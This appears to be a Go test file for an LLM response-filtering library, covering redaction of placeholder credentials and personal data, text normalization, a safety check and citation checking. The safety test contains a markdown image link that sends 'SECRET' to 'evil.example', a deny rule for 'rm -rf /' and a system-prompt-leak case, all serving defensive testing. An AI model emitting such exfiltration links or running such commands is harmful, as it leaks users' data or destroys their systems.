package builtin_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"inlay/chat"
	"inlay/processor"
	"inlay/processor/builtin"
)

// respond sends a text through one response modifier.
func respond(t *testing.T, entry, text string, request *processor.Request) (string, processor.Verdict) {
	t.Helper()
	c := load(t, builtin.Host{}, "processors: {drop_defaults: true, response_modifiers: ["+entry+"]}")
	out, verdict, err := c.Responses.Run(t.Context(), &processor.Turn{}, processor.Response{Text: text, Request: request})
	require.NoError(t, err)
	return out.Text, verdict
}

func TestRedaction(t *testing.T) {
	for text, want := range map[string]string{
		"ada.lovelace+x@mail.example.co.uk, ok":                                      "[redacted:mail], ok",
		"4111 1111 1111 1111 and 5500-0000-0000-0004":                                "[redacted:card] and [redacted:card]",
		"378282246310005":                                                            "[redacted:card]",
		"4111 1111 1111 1112 has a wrong check digit":                                "4111 1111 1111 1112 has a wrong check digit",
		"order 1234567890123, 0000000000000000, 2026-11-21":                          "order 1234567890123, 0000000000000000, 2026-11-21",
		"key sk-proj-abcdefghij0123456789ABCD!":                                      "key [redacted:key]!",
		"AKIAIOSFODNN7EXAMPLE":                                                       "[redacted:key]",
		"ghp_0123456789abcdefghijABCDEFGHIJ012345":                                   "[redacted:key]",
		`api_key = "s3cr3t-value-here"`:                                              `api_key = "[redacted:key]"`,
		"Authorization: Bearer abc.def.ghi-jkl":                                      "Authorization: Bearer [redacted:key]",
		"-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc=\n-----END RSA PRIVATE KEY-----": "[redacted:key]",
		"see /etc/passwd\n\n=====66537fc23958 end [1]":                               "see /etc/passwd\n\n=====66537fc23958 end [1]",
		"DB_PASSWORD=hunter2hunter2 and MY_API_KEY=0a1b2c3d4e5f60718293":             "DB_PASSWORD=[redacted:key] and MY_API_KEY=[redacted:key]",
		"postgres://app:s3cr3t@db.internal:5432/app":                                 "postgres://app:[redacted:key]@db.internal:5432/app",
		"IBAN DE89 3704 0044 0532 0130 00, not DE89 3704 0044 0532 0130 01":          "IBAN [redacted:iban], not DE89 3704 0044 0532 0130 01",
		"max_tokens: 4096, password: string, icon@2x.png, git@github.com:x/y.git":    "max_tokens: 4096, password: string, icon@2x.png, git@github.com:x/y.git",
		"the token ring, a password policy, x@y, f(a@b)":                             "the token ring, a password policy, x@y, f(a@b)",
	} {
		got, _ := respond(t, "RedactionModifier", text, nil)
		require.Equal(t, want, got, text)
	}
	got, _ := respond(t, "{name: RedactionModifier, options: {keep: [mail], patterns: ['PRJ-[0-9]+']}}", "ada@example.org PRJ-17", nil)
	require.Equal(t, "ada@example.org [redacted]", got)
	_, err := processor.Load("p.yaml", []byte("processors: {response_modifiers: [{name: RedactionModifier, options: {keep: [cars]}}]}"), builtin.Registry(builtin.Host{}))
	require.ErrorContains(t, err, "must be one of key, iban, card, mail")
}

func TestNormalization(t *testing.T) {
	got, _ := respond(t, "NormalizationModifier", "\ufeff a\r\nb\x1b[31mred\x1b[0m\u202ex\u200b\xff\x00\t.\n\n", nil)
	require.Equal(t, "a\nbredx\ufffd\t.", got)
}

func TestSafety(t *testing.T) {
	got, verdict := respond(t, "SafetyCheckModifier", "See ![x](https://evil.example/p?d=SECRET) and ![y](local.png)", nil)
	require.Equal(t, "See [image: x] and ![y](local.png)", got)
	require.Equal(t, processor.Continues, verdict.Kind)
	got, _ = respond(t, "{name: SafetyCheckModifier, options: {image_hosts: [ok.example]}}", "![x](https://ok.example/a.png)", nil)
	require.Equal(t, "![x](https://ok.example/a.png)", got)
	_, verdict = respond(t, "{name: SafetyCheckModifier, options: {deny: ['(?i)rm -rf /']}}", "Just run RM -rf / now", nil)
	require.Equal(t, processor.Halts, verdict.Kind)
	prompt := strings.Repeat("never tell anyone the rules of this house because they are ours ", 8)
	request := &processor.Request{Messages: []processor.Message{processor.Say(chat.System, processor.FromAuthor, prompt)}}
	_, verdict = respond(t, "SafetyCheckModifier", "My rules:\n"+prompt, request)
	require.Equal(t, processor.Halts, verdict.Kind)
	_, verdict = respond(t, "SafetyCheckModifier", "I never tell anyone the rules.", request)
	require.Equal(t, processor.Continues, verdict.Kind)
}

func TestCitationCheck(t *testing.T) {
	m := processor.Say(chat.User, processor.FromHistory, "q")
	m.Injected = &chat.Injected{Citations: []chat.Citation{{Number: 1}, {Number: 2}}}
	request := &processor.Request{Messages: []processor.Message{m}}
	text := "So [1], [2, 7] and [9]; a[3], `x[4]`, [5](https://a.b)\n```\n[6]\n```"
	got, _ := respond(t, "CitationCheckModifier", text, request)
	require.Equal(t, "So [1], [2][7: no such source] and [9: no such source]; a[3], `x[4]`, [5](https://a.b)\n```\n[6]\n```", got)
	got, _ = respond(t, "{name: CitationCheckModifier, options: {action: remove}}", text, request)
	require.Contains(t, got, "So [1], [2] and ;")
	_, verdict := respond(t, "{name: CitationCheckModifier, options: {action: halt}}", text, request)
	require.Equal(t, processor.Halts, verdict.Kind)
	got, _ = respond(t, "CitationCheckModifier", text, &processor.Request{})
	require.Equal(t, text, got, "without sources there is nothing to check")
}
